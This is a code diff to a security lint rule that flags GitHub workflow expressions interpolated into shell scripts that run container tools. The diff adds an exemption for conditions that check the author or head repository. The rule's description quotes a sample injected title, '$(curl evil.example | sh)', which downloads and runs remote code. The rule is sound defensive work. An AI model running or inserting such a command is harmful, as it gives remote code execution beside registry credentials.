@@ -8,6 +8,7 @@ import {
   type Spanned,
   type WorkflowEvent,
   type WorkflowStep,
+  type YamlScalar,
 } from "../../src/author.ts";
 import { addVariable, dialectOf, isPosixFamily } from "../../src/kit.ts";
 import { containerTools } from "../../src/knowledge/programs/containers.ts";
@@ -20,7 +21,8 @@ export default defineRule({
     "GitHub inserts the value of an expression into the script before a shell reads it. A title such as " +
     "`$(curl evil.example | sh)` then runs as a command, beside the credentials of the registry and the images that the job builds. " +
     "A variable in `env` is only a value to the shell. The finding is an error if the event runs with the secrets of the repository, " +
-    "and otherwise a warning. Scripts that call no container tool are left to linters of workflows.",
+    "and otherwise a warning. Scripts that call no container tool are left to linters of workflows, and conditions that ask who the " +
+    "author is, or for a branch of the repository itself, are trusted.",
   topic: "workflows",
   category: "security",
   severity: "error",
@@ -47,7 +49,7 @@ export default defineRule({
   ],
   on: {
     *WorkflowStep(step, { model: { events }, source }) {
-      if (step.expressions.length === 0) return;
+      if (step.expressions.length === 0 || asksForAuthor(step.condition) || asksForAuthor(step.job.condition)) return;
       const program = step.commands.find((command) => containerTools.has(command.program ?? ""))?.program;
       if (program === undefined) return;
       const started = events.filter(({ name }) => mayRun(step, name));
@@ -65,6 +67,11 @@ export default defineRule({
     },
   },
 });
+
+/** Whether a condition may hold for those alone who can write to the repository anyway. */
+function asksForAuthor(condition: YamlScalar | undefined): boolean {
+  return /\bhead\.repo\b|\bauthor_association\b/.test(condition?.value ?? "");
+}
 
 /** Each fix looks through the script; further ones are offered when these have been made. */
 const mostFixed = 32;
